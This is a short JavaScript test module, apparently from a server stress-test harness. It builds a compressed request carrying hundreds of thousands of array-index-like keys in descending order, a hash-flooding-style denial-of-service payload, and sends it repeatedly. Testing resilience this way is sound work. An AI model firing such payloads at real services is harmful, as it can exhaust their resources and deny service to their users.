import { compressedRequest, deflated, str, vInt } from '../harness/wire.mjs';

/** Largest key that engines treat as an index of an array, minus what is needed below it. */
const FIRST_KEY = 4_294_967_294;

export const attack = {
  what: 'Compressed requests with a map of hundreds of thousands of keys that look like array indices, in descending order.',
  like: 'hash-flooding of form and JSON parsers',
  prepare: ({ isQuick }) => {
    const keys = Array.from({ length: isQuick ? 100_000 : 400_000 }, (_, i) =>
      Buffer.concat([str(String(FIRST_KEY - i * 3)), Buffer.of(0)]),
    );
    return compressedRequest('demo:settings', deflated(Buffer.concat([Buffer.of(0), vInt(keys.length), ...keys])));
  },
  run: (attacker, bomb) => attacker.askAgain(2, bomb),
};
